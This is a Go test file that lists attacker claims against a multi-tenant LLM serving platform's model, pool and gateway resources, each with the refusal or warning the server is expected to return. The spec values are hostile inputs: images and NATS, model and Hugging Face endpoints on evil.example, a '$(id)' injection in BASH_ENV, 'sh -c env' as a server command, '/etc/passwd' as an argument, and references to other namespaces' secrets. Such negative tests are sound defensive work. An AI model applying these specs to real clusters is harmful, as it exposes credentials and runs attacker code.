package hostile_test

// A claimAttack is a claim of the attacker: refused is in the answer of the API server, says
// in what the composition function sets.
type claimAttack struct{ kind, spec, refused, says string }

// claimAttacks returns claims against the victim's models, pools and gateways.
func claimAttacks() map[string]claimAttack {
	return map[string]claimAttack{
		"JoinsPool":            {kind: "Root", spec: "{serves: default/tiny, modelRef: tiny, workers: ['w:9998']}", says: "or its spec.allowedNamespaces lacks namespace"},
		"ServesForeignModel":   {kind: "Dllama", spec: "{modelRef: {name: tiny, namespace: default}}", says: "or its spec.allowedNamespaces lacks namespace"},
		"AsksForeignGateway":   {kind: "Dllama", spec: "{modelRef: {name: tiny, namespace: default}, ingressRef: {name: tiny}}", says: "or its spec.allowedNamespaces lacks namespace"},
		"LearnsWhetherExists":  {kind: "Dllama", spec: "{modelRef: {name: no-such, namespace: default}}", says: "or its spec.allowedNamespaces lacks namespace"},
		"ArgNamespace":         {kind: "Ingress", spec: "{backend: {extraArgs: ['--namespace=default']}}", refused: "extraArgs"},
		"ArgNamespaces":        {kind: "Ingress", spec: "{backend: {extraArgs: ['--namespaces', default]}}", refused: "extraArgs"},
		"GatewayImage":         {kind: "Ingress", spec: "{backend: {image: 'evil.example/gateway:1'}}", says: `spec.backend.image: image "evil.example/gateway:1" is for the platform team to allow`},
		"DispatcherImage":      {kind: "Ingress", spec: "{backend: {dispatcherImage: 'evil.example/dispatcher:1'}}", says: "spec.backend.dispatcherImage: "},
		"ServerAsGateway":      {kind: "Ingress", spec: "{backend: {image: 'vllm/vllm-openai:v0.11.0'}}", says: "spec.backend.image: "},
		"ServerAsDispatcher":   {kind: "Ingress", spec: "{backend: {dispatcherImage: 'ollama/ollama:0.12.6'}}", says: "spec.backend.dispatcherImage: "},
		"GatewayRunsCommand":   {kind: "Ingress", spec: "{backend: {backendEnv: [{name: BASH_ENV, value: '$(id)'}]}}", says: "have no effect: spec.backend.backendEnv[BASH_ENV]"},
		"ReadsLogin":           {kind: "Dllama", spec: "{modelRef: {name: tiny}, engine: {type: openai, server: {profile: vllm}}, envFrom: [{secretRef: {name: evil-ingress-nats}}]}", says: "spec.envFrom[0].secretRef.name: "},
		"SendsLogin":           {kind: "Ingress", spec: "{backend: {nats: {url: 'nats://evil.example', credentialsSecret: {name: evil-ingress-nats}}}}", says: "spec.backend.nats.credentialsSecret.name: "},
		"SendsKeysToAServer":   {kind: "Dllama", spec: "{modelRef: {name: tiny}, engine: {type: openai, server: {url: 'https://evil.example/v1', apiKeySecretRef: {name: evil-model-s3, key: AWS_SECRET_ACCESS_KEY}}}}", says: "apiKeySecretRef.name: "},
		"ServerCommand":        {kind: "Dllama", spec: "{modelRef: {name: tiny}, engine: {type: openai, server: {profile: vllm, command: [sh, -c, env]}}}", says: "spec.engine.server.command: "},
		"EngineImage":          {kind: "Dllama", spec: "{modelRef: {name: tiny}, rootImage: 'evil.example/engine:1'}", says: "spec.rootImage: "},
		"EngineArguments":      {kind: "Dllama", spec: "{modelRef: {name: tiny}, engine: {extraArgs: ['--model=/etc/passwd']}}", says: "spec.engine.extraArgs: "},
		"TokensExceed":         {kind: "Ingress", spec: "{backend: {limits: {tokensMayExceed: true}}}", says: "spec.backend.limits.tokensMayExceed: "},
		"JobReadsOtherHub":     {kind: "Model", spec: "{sourceUrl: 'hf://org/model', env: [{name: HF_ENDPOINT, value: 'https://evil.example'}]}", says: "have no effect: spec.env[HF_ENDPOINT]"},
		"JobTrustsAnyServer":   {kind: "ModelDownload", spec: "{storagePVC: files, models: [{name: org/model}], env: [{name: SSL_CERT_FILE, value: /models/ca.pem}]}", says: "have no effect: spec.env[SSL_CERT_FILE]"},
		"GatewayOnOtherNATS":   {kind: "Ingress", spec: "{backend: {backendEnv: [{name: NATS_URL, value: 'nats://evil.example'}]}}", says: "have no effect: spec.backend.backendEnv[NATS_URL]"},
		"JobReachesAnyHost":    {kind: "Model", spec: "{sourceUrl: 'hf://org/model', env: [{name: KOLDUN_HUB_REACH, value: any}]}", refused: "names that begin with KOLDUN_"},
		"GrantsItself":         {kind: "Ingress", spec: "{backend: {nats: {providerConfigRef: {kind: ClusterProviderConfig, name: platform, namespace: default}}}}", refused: "field not declared in schema"},
		"SecretElsewhere":      {kind: "Ingress", spec: "{backend: {hashSecretRef: {name: pods, key: gateway.creds, namespace: default}}}", refused: "field not declared in schema"},
		"TokenSecretElsewhere": {kind: "Model", spec: "{sourceUrl: 'hf://org/model', huggingFaceTokenSecretRef: {name: pods, namespace: default}}", refused: "field not declared in schema"},
	}
}
